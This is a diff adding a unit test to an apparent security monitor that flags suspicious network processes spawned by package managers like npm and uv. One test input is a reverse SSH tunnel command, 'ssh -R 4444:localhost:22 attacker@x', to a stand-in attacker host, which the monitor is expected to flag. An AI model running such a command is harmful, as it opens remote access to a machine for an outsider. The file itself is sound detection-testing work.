@@ -368,6 +368,35 @@ static void test_quiet_builds(void **state)
 	expect(proc(sh, &npm_sess, "/usr/bin/uname", "uname -a"), RULE_PM_CHILD, SEV_MEDIUM, NULL);
 }
 
+static void test_quiet_fetches(void **state)
+{
+	struct proc *npm = npm_root(), *git, *uv, *probe;
+	struct session uv_sess;
+	struct verdict v;
+
+	(void)state;
+	git = proc(npm, &npm_sess, "/usr/bin/git",
+		   "git clone --depth=1 ssh://git@github.com/acme/widgets.git /tmp/x");
+	expect_none(git);
+	expect_none(proc(git, &npm_sess, "/usr/bin/ssh",
+			 "ssh -o SendEnv=GIT_PROTOCOL git@github.com git-upload-pack 'acme/widgets.git'"));
+	expect(proc(git, &npm_sess, "/usr/bin/ssh", "ssh -R 4444:localhost:22 attacker@x"),
+	       RULE_PM_CHILD, SEV_HIGH, "network tool");
+	expect(proc(npm, &npm_sess, "/usr/bin/ssh", "ssh git@github.com git-upload-pack 'a.git'"),
+	       RULE_PM_CHILD, SEV_HIGH, "network tool");
+
+	uv = proc(NULL, &uv_sess, "/usr/local/bin/uv", "uv pip install x");
+	uv_sess = (struct session){ .refs = 1, .id = 3, .root = uv };
+	uv_sess.pm = rules_package_manager(cfg, uv);
+	assert_string_equal(uv_sess.pm->name, "uv");
+	probe = proc(uv, &uv_sess, "/usr/bin/python3.11",
+		     "/usr/bin/python3 -c import sys; sys.path = [\"/root/.cache/uv/x\"] "
+		     "+ sys.path; from python.get_interpreter_info import main; main()");
+	rules_eval(cfg, probe, &v);
+	assert_int_equal(v.rule, RULE_NONE);
+	assert_non_null(v.excluded_by);
+}
+
 static char *shim_cmdline(const char *exe, const char *before)
 {
 	size_t len = strlen(exe) + strlen(before) + sizeof(pip_shim) + 64;
@@ -674,6 +703,7 @@ int main(void)
 		cmocka_unit_test_teardown(test_reverse_shell, teardown),
 		cmocka_unit_test_teardown(test_shell_modes, teardown),
 		cmocka_unit_test_teardown(test_quiet_builds, teardown),
+		cmocka_unit_test_teardown(test_quiet_fetches, teardown),
 		cmocka_unit_test_teardown(test_pip_shim, teardown),
 		cmocka_unit_test_teardown(test_lifecycle_without_session, teardown),
 		cmocka_unit_test_teardown(test_exclusions, teardown),
